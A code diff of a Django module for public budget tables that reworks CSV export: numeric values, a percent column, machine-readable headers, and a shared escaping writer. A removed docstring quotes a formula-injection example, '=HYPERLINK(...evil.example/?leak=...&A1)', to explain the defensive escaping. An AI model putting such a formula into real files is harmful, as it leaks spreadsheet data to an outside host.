@@ -1,7 +1,7 @@
 """The public tables (django-tables2). Each can also be downloaded as CSV from the same rows."""
 
-import csv
 import re
+from decimal import Decimal
 from functools import cached_property
 from itertools import pairwise
 
@@ -17,10 +17,11 @@ from django.utils.translation import gettext, gettext_lazy
 from django_tables2.rows import BoundPinnedRow
 from django_tables2.utils import AttributeDict, OrderBy
 
+from budgets import csvfiles
+from budgets.csvfiles import CsvWriter, Dialect, spreadsheet_text
 from budgets.display import amount_html, amount_html_formatter, amount_text, sort_key
 from budgets.figures import Row
 from budgets.numbers import Figure, amount_formatter
-from budgets.workbooks import FORMULA_TRIGGERS
 from initiatives.english import translated, translated_html
 from initiatives.models import Theme
 
@@ -35,41 +36,66 @@ class AmountColumn(tables.Column):
         return amount_html(value)
 
     def value(self, value):
-        return amount_text(value)
+        return csv_value(value)
+
+
+def csv_value(value):
+    """An amount for a CSV file: a known amount as a number (written in the file's dialect), anything else in the
+    words a reader sees ("ukendt", "Er finansieret"), never as zero."""
+    text = amount_text(value)
+    return Decimal(text) if NUMERIC.match(text) else text
+
+
+NUMERIC = re.compile(r"^-?\d+(\.\d+)?$")
+
+
+class PercentColumn(tables.Column):
+    """A change in per cent: "-1,3 %" on the page, the number -1.3 in a CSV file."""
+
+    def __init__(self, *args, **kwargs):
+        kwargs.setdefault("attrs", {"th": {"class": "number"}, "td": {"class": "number"}})
+        super().__init__(*args, **kwargs)
+
+    def render(self, value):
+        return f"{amount_formatter()(value)} %"
+
+    def value(self, value):
+        return value
 
 
 def year_columns(years, prefix="y", **kwargs) -> list[tuple[str, tables.Column]]:
     return [(f"{prefix}{year}", AmountColumn(verbose_name=str(year), **kwargs)) for year in years]
 
 
-# A value the tables print as a number (an amount, "-0,3 %"): a spreadsheet reads it as one, never as a formula.
-NUMBER = re.compile(r"^[-+]?\d[\d.,\s]*%?$")
-# Where a spreadsheet may start a cell in a text: at its start, and after a semicolon or a line break, where Danish
-# Excel (which splits rows at semicolons) may start one whatever the quoting.
-CELL_START = re.compile("(^|[;\r\n])(?=[" + re.escape("".join(FORMULA_TRIGGERS)) + "])")
-
-
-def spreadsheet_text(value) -> str:
-    """A value for a CSV file that people open in a spreadsheet. Text that Excel would run as a formula (a title
-    such as '=HYPERLINK("http://evil.example/?leak="&A1)') gets an apostrophe in front, as the workbooks' text
-    does, at its start and wherever a cell could start inside it. Numbers, negative ones included, stay as they
-    are."""
-    text = "" if value is None else force_str(value)
-    if NUMBER.match(text):
-        return text
-    return CELL_START.sub(r"\1'", text)
-
-
-def csv_response(table: tables.Table, filename: str) -> HttpResponse:
+def csv_response(table: tables.Table, filename: str, dialect: Dialect) -> HttpResponse:
     """The table as CSV for a spreadsheet. Every field is quoted, so that Danish Excel, which splits a row at
-    semicolons, cannot start a cell in the middle of a title either. (The open-data CSV under /api/ is for
-    programs and stays as stored.)"""
-    response = HttpResponse(content_type="text/csv; charset=utf-8")
-    response["Content-Disposition"] = f'attachment; filename="{filename}.csv"'
-    writer = csv.writer(response, quoting=csv.QUOTE_ALL)
-    for row in table.as_values():
-        writer.writerow([spreadsheet_text(value) for value in row])
-    return response
+    semicolons, cannot start a cell in the middle of a title either, and text a spreadsheet would run as a formula
+    is escaped. (The open-data CSV under /api/ is for programs and stays as stored.)"""
+    columns = [column for column in table.columns.iterall() if not column.column.exclude_from_export]
+    if dialect.readers_headings:
+        header = [force_str(column.header) for column in columns]
+    else:
+        header = [machine_name(column.name) for column in columns]
+    writer = CsvWriter(dialect, quote_all=True, text=spreadsheet_text)
+    rows = table.as_values()
+    next(rows)  # django-tables2's header: the page's headings
+    return csvfiles.csv_response(writer.lines(header, rows), filename)
+
+
+_MACHINE_NAMES = [
+    (re.compile(r"^y(\d+)$"), r"\1"),
+    (re.compile(r"^d(\d+)_(\d+)$"), r"change_\1_\2"),
+    (re.compile(r"^p(\d+)_(\d+)$"), r"change_percent_\1_\2"),
+    (re.compile(r"^numbers$"), "number"),
+]
+
+
+def machine_name(name: str) -> str:
+    """The ASCII name of a column for programs: a year's amounts under the year, a change as change_2023_2024."""
+    for pattern, replacement in _MACHINE_NAMES:
+        if pattern.match(name):
+            return pattern.sub(replacement, name)
+    return name
 
 
 class RowsPaginator(Paginator):
@@ -103,21 +129,25 @@ class LeanBody:
                     column.empty_values,
                     conditional_escape(bound.default),
                     isinstance(column, AmountColumn),
+                    isinstance(column, PercentColumn),
                     f"<td {bound.attrs['td'].as_html()}>",
                 )
             )
         amount_html = amount_html_formatter()  # safe by construction, see budgets.display.amount_html
+        number = amount_formatter()
         parts = [f"<tbody {AttributeDict(self.attrs.get('tbody', {})).as_html()}>"]
         for index, row in enumerate(self.paginated_rows):
             record = row.record
             pinned = " total" if isinstance(row, BoundPinnedRow) else ""
             parts.append(f'<tr class="{"odd" if index % 2 else "even"}{pinned}">')
-            for key, empty, default, amount, opening in columns:
+            for key, empty, default, amount, percent, opening in columns:
                 value = record.get(key)
                 if value in empty:
                     text = default
                 elif amount:
                     text = amount_html(value)
+                elif percent:
+                    text = conditional_escape(f"{number(value)} %")
                 else:
                     text = conditional_escape(localize(value))
                 parts.append(f"{opening}{text}</td>")
@@ -144,10 +174,10 @@ def yearly_funding_table(funding) -> YearlyFundingTable:
     for year in funding.years:
         row = {"year": year, "total": funding.total(year), "frame": funding.total_frame(year)}
         for strategy in funding.strategies:
-            row[f"s{strategy.pk}"] = funding.figure(strategy, year)
+            row[f"strategy_{strategy.slug}"] = funding.figure(strategy, year)
         rows.append(row)
     strategy_columns = [
-        (f"s{strategy.pk}", AmountColumn(verbose_name=translated(strategy, "short_title")))
+        (f"strategy_{strategy.slug}", AmountColumn(verbose_name=translated(strategy, "short_title")))
         for strategy in funding.strategies
     ]
     return YearlyFundingTable(rows, extra_columns=strategy_columns, sequence=("year", "...", "total", "frame"))
@@ -472,7 +502,7 @@ class InitiativeTable(tables.Table):
                 "title": translated(initiative, "title"),
                 "chapter": translated(initiative.chapter, "title"),
                 "theme": themes.get(initiative.theme, initiative.theme),
-                "amount": "" if initiative.amount is None else self.value_amount(initiative),
+                "amount": None if initiative.amount is None else csv_value(self._known_amount(initiative)),
                 "status": self.render_status(initiative),
             }
             yield [values[column.name] for column in columns]
@@ -484,7 +514,7 @@ def comparison_table(comparison) -> tables.Table:
     The total is pinned below the rows, so each page of a long comparison ends with the total of all of it.
     """
     years = comparison.years
-    amount, year_keys = amount_formatter(), [(year, f"y{year}") for year in years]
+    year_keys = [(year, f"y{year}") for year in years]
     change_keys = {(before, after): (f"d{before}_{after}", f"p{before}_{after}") for before, after in pairwise(years)}
     records = []
     for row in [*comparison.rows, comparison.totals]:
@@ -494,7 +524,7 @@ def comparison_table(comparison) -> tables.Table:
         for before, after, difference, percent in row.changes(years):
             difference_key, percent_key = change_keys[(before, after)]
             record[difference_key] = difference
-            record[percent_key] = None if percent is None else f"{amount(percent)} %"
+            record[percent_key] = percent
         records.append(record)
     columns = [(key, AmountColumn(verbose_name=str(year))) for year, key in year_keys]
     for (before, after), (difference_key, percent_key) in change_keys.items():
@@ -507,11 +537,7 @@ def comparison_table(comparison) -> tables.Table:
         columns.append(
             (
                 percent_key,
-                tables.Column(
-                    verbose_name=f"{after} − {before} (%)",
-                    attrs={"th": {"class": "number"}, "td": {"class": "number"}},
-                    default="–",
-                ),
+                PercentColumn(verbose_name=f"{after} − {before} (%)", default="–"),
             )
         )
 
